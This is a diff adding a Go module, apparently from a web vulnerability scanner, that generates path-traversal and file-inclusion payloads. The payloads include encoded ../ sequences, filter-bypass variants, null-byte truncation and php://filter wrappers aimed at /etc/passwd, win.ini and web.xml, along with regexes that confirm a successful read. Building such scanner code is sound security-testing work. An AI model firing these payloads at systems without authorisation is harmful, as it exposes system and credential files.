@@ -0,0 +1,164 @@
+package lfi
+
+import (
+    regexp "github.com/wasilibs/go-re2"
+    "github.com/yhy0/Jie/conf"
+    "github.com/yhy0/Jie/pkg/util"
+    "path"
+    "strings"
+)
+
+/**
+   @author yhy
+   @since 2024/6/24
+   @desc 路径穿越、文件包含的 payload 和文件内容特征
+**/
+
+// file 要读取的文件及其内容特征
+type file struct {
+    name      string
+    path      string // 不带开头的 /
+    signature *regexp.Regexp
+}
+
+var (
+    passwd = &file{"/etc/passwd", "etc/passwd", regexp.MustCompile(`root:[^:\n]*:0:0:`)}
+    winIni = &file{"win.ini", "windows/win.ini", regexp.MustCompile(`(?i)\[(fonts|extensions|mci extensions)\]`)}
+    webXml = &file{"web.xml", "WEB-INF/web.xml", regexp.MustCompile(`<web-app[\s>]`)}
+    // php://filter 读取后的内容，base64 编码后的 root:x:0:0 以 cm9vdDp 开头，rot13 后的 root 为 ebbg
+    passwdBase64 = &file{"/etc/passwd (php://filter base64)", "", regexp.MustCompile(`cm9vdDp[A-Za-z0-9+/]{8,}`)}
+    passwdRot13  = &file{"/etc/passwd (php://filter rot13)", "", regexp.MustCompile(`ebbg:[^:\n]*:0:0:`)}
+)
+
+// payload 一个 payload 和用于确认的文件特征
+type payload struct {
+    value    string
+    file     *file
+    category string
+}
+
+// 路径穿越的前缀，%2e 这种编码 payload 发送时会再被 url 编码一次，用于绕过先解码再过滤的情况
+var (
+    unixTraversals = []string{"../", "%2e%2e%2f", "..%2f", "%252e%252e%252f", "..%c0%af"}
+    winTraversals  = []string{"..\\", "..%5c", "%2e%2e%5c"}
+    // 非递归替换 ../ 为空时，....// 替换后还是 ../
+    bypassTraversals = []string{"....//", "..././", "....\\\\", "....\\/"}
+)
+
+const depth = 8
+
+// 文件相关的参数名
+var fileParams = []string{
+    "file", "filename", "filepath", "path", "page", "template", "tpl", "include", "inc", "dir", "folder", "doc", "document",
+    "style", "lang", "language", "view", "layout", "load", "read", "download", "conf", "config", "module", "pdf", "img",
+    "image", "attachment", "resource", "src", "show", "cat", "locale",
+}
+
+var fileValueRegex = regexp.MustCompile(`^[\w\-.~/\\]+\.[a-zA-Z0-9]{1,5}$`)
+
+// candidate 参数名像文件参数，或者参数值像文件路径
+func candidate(name, value string) bool {
+    lower := strings.ToLower(name)
+    for _, p := range fileParams {
+        if lower == p || strings.HasSuffix(lower, "_"+p) || strings.HasSuffix(lower, p+"name") || strings.HasSuffix(lower, p+"path") {
+            return true
+        }
+    }
+    return strings.Contains(value, "/") || strings.Contains(value, "\\") || fileValueRegex.MatchString(value)
+}
+
+// payloads 根据原始参数值和指纹生成 payload，windows 为 true 时 windows 的 payload 优先，stripped 为 true 时过滤绕过的 payload 优先
+func payloads(value string, fingerprints []string, stripped bool) []payload {
+    var (
+        unix    []payload
+        win     []payload
+        bypass  []payload
+        wrapper []payload
+        java    []payload
+    )
+    
+    for _, t := range unixTraversals {
+        unix = append(unix, payload{strings.Repeat(t, depth) + passwd.path, passwd, "dot-dot"})
+    }
+    unix = append(unix, payload{"/" + passwd.path, passwd, "absolute path"})
+    unix = append(unix, payload{"file:///" + passwd.path, passwd, "file wrapper"})
+    
+    win = append(win, payload{strings.Repeat("../", depth) + winIni.path, winIni, "dot-dot"})
+    for _, t := range winTraversals {
+        win = append(win, payload{strings.Repeat(t, depth) + winIni.path, winIni, "dot-dot"})
+    }
+    win = append(win, payload{"c:/" + winIni.path, winIni, "absolute path"})
+    win = append(win, payload{"C:\\Windows\\win.ini", winIni, "absolute path"})
+    
+    for _, t := range bypassTraversals {
+        bypass = append(bypass, payload{strings.Repeat(t, depth) + passwd.path, passwd, "filter bypass"})
+    }
+    bypass = append(bypass, payload{strings.Repeat("....//", depth) + winIni.path, winIni, "filter bypass"})
+    
+    // 保留原始值的目录前缀，应对要求路径以特定目录开头的情况
+    if dir := path.Dir(strings.ReplaceAll(value, "\\", "/")); dir != "." && dir != "/" {
+        unix = append(unix, payload{dir + "/" + strings.Repeat("../", depth) + passwd.path, passwd, "directory prefix"})
+        win = append(win, payload{dir + "/" + strings.Repeat("../", depth) + winIni.path, winIni, "directory prefix"})
+    }
+    
+    // 原始值带有后缀时，服务端可能会拼接后缀，使用 %00 截断
+    if ext := path.Ext(value); ext != "" && len(ext) <= 6 {
+        unix = append(unix, payload{strings.Repeat("../", depth) + passwd.path + "\x00" + ext, passwd, "null byte"})
+        win = append(win, payload{strings.Repeat("../", depth) + winIni.path + "\x00" + ext, winIni, "null byte"})
+    }
+    
+    wrapper = append(wrapper,
+        payload{"php://filter/convert.base64-encode/resource=/" + passwd.path, passwdBase64, "php wrapper"},
+        payload{"php://filter/read=string.rot13/resource=/" + passwd.path, passwdRot13, "php wrapper"},
+    )
+    
+    for i := 0; i <= 3; i++ {
+        java = append(java, payload{strings.Repeat("../", i) + webXml.path, webXml, "dot-dot"})
+    }
+    java = append(java, payload{"/" + webXml.path, webXml, "absolute path"})
+    
+    php := util.InSliceCaseFold("php", fingerprints) || strings.HasSuffix(strings.ToLower(value), ".php")
+    
+    var res []payload
+    if stripped {
+        res = append(res, bypass...)
+    }
+    if php {
+        res = append(res, wrapper...)
+    }
+    if isWindows(fingerprints) {
+        res = append(res, win...)
+        res = append(res, unix...)
+    } else {
+        res = append(res, unix...)
+        res = append(res, win...)
+    }
+    if !stripped {
+        res = append(res, bypass...)
+    }
+    if !php {
+        res = append(res, wrapper...)
+    }
+    return append(res, java...)
+}
+
+// quickPayloads quick 策略下每个参数最多发送的 payload 数，payloads 已经按照可能性排好序
+const quickPayloads = 6
+
+// limit 根据扫描策略的 payload 深度截取 payload
+func limit(pls []payload, level int) []payload {
+    if level == conf.PayloadQuick && len(pls) > quickPayloads {
+        return pls[:quickPayloads]
+    }
+    return pls
+}
+
+// isWindows 根据指纹判断是否为 windows 服务器
+func isWindows(fingerprints []string) bool {
+    for _, f := range []string{"windows", "iis", "asp", ".net"} {
+        if util.InSliceCaseFold(f, fingerprints) {
+            return true
+        }
+    }
+    return false
+}